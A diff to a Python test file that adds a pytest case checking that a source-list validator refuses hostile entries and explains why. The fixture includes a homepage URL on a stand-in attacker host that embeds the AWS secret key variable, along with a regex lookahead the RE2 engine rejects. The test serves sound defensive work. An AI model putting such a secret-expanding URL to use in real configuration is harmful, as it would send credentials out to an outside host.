@@ -43,9 +43,25 @@ def test_sources_validate_reports_every_problem_with_its_line(tmp_path, capsys):
     assert "homepage" in out and "exclude" in out
 
 
+def test_sources_validate_says_why_hostile_entries_are_refused(tmp_path, capsys, monkeypatch):
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")
+    monkeypatch.setenv("SOURCE_PLACEHOLDERS", "*")
+    sources = tmp_path / "sources.yaml"
+    sources.write_text(
+        "sources:\n"
+        "  - id: leak\n    name: Leak\n    homepage: https://evil.example/?k=${AWS_SECRET_ACCESS_KEY}\n"
+        "  - id: slow\n    name: Slow\n    homepage: https://slow.example/\n    include: ['/(?=news)']\n"
+    )
+    assert main(["sources", "validate", str(sources)]) == 1
+    out = " ".join(capsys.readouterr().out.split())  # rich wraps long lines
+    assert "AWS_SECRET_ACCESS_KEY not allowed" in out and "EXAMPLEKEY" not in out
+    assert "RE2" in out and "lookahead" in out
+
+
 def test_sources_validate_accepts_the_bundled_sample_sources(capsys, monkeypatch):
     for name in ("SITE_HARBOUR_TIMES", "SITE_NORTHERN_LEDGER", "SITE_CIVIC_WIRE"):
         monkeypatch.setenv(name, "http://127.0.0.1:8000")
+    monkeypatch.setenv("SOURCE_PLACEHOLDERS", "SITE_*")  # the explicit allow-list the local runtime sets
     bundled = Path(__file__).resolve().parents[2] / "sample_sites" / "sources.yaml"
     assert main(["sources", "validate", str(bundled)]) == 0
     assert "3 valid sources, 0 problems" in capsys.readouterr().out
